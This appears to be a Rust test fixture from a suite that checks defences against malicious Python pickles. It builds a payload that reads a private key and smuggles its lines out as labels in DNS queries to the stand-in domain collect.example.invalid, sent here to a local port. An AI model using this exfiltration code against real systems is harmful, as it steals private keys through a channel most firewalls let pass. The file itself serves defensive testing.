//! A private key in the labels of DNS queries: name servers carry it out of any network.

use super::*;

/// A key is sent as names that are asked for.
pub const ATTACK: Attack = Attack {
    id: "exfiltrate-dns",
    title: "a private key hidden in DNS queries",
    summary: "The pickle reads a private key and asks the name server for names that have \
              its lines in them. Most firewalls let such queries through, and the \
              torchtriton package of 2022 sent keys in this way.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::PRIVATE_KEYS,
        techniques::EXFILTRATION_OVER_ALTERNATIVE_PROTOCOL,
        techniques::DNS,
        techniques::EXFILTRATION_VIA_CYBER_MEANS,
    ],
    cwe: &[502, 200],
    references: &[
        Reference {
            title: "PyTorch: the compromised dependency torchtriton",
            url: "https://pytorch.org/blog/compromised-nightly-dependency/",
        },
        Reference {
            title: "RFC 1035: domain names, message format",
            url: "https://www.rfc-editor.org/rfc/rfc1035#section-4.1",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Received(KEY_MARK)],
        policy: &[
            Evidence { kind: EventKind::FileRead, text: KEY },
            Evidence { kind: EventKind::Send, text: "collect.example.invalid" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let key = payload::quoted(&scene.path(KEY));
    // Without the key a query is tried all the same.
    let source = format!(
        r"
import socket
try:
    with open({key}) as opened:
        stolen = opened.read()
except OSError:
    stolen = 'unreadable\n'
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number, line in enumerate(stolen.splitlines()[:64]):
    if '-----' in line:
        continue
    query = number.to_bytes(2, 'big') + b'\1\0\0\1\0\0\0\0\0\0'
    for label in (line.encode()[:63], b'collect', b'example', b'invalid'):
        query += bytes([len(label)]) + label
    sender.sendto(query + b'\0\0\1\0\1', ('127.0.0.1', {DNS_PORT}))
sender.close()
"
    );
    payload::program(ATTACK.id, target, &source)
}
